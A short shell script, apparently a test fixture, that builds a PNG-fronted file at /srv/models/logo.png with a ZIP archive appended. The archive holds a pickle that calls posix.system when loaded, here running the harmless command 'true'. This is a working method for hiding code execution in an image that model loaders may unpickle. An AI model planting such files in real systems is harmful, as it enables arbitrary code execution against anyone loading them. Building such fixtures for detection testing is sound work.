#!/bin/sh
# A checkpoint with a pickle that runs something stands behind a picture: loaders that begin at the end find it.
# reason: parse
# host: services
mkdir -p /srv/models
python3 - <<'EOF'
import io, zipfile
stream = io.BytesIO()
with zipfile.ZipFile(stream, "w") as archive:
    archive.writestr("a/data.pkl", b"\x80\x02cposix\nsystem\nX\4\0\0\0true\x85R.")
open("/srv/models/logo.png", "wb").write(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(40) + stream.getvalue())
EOF
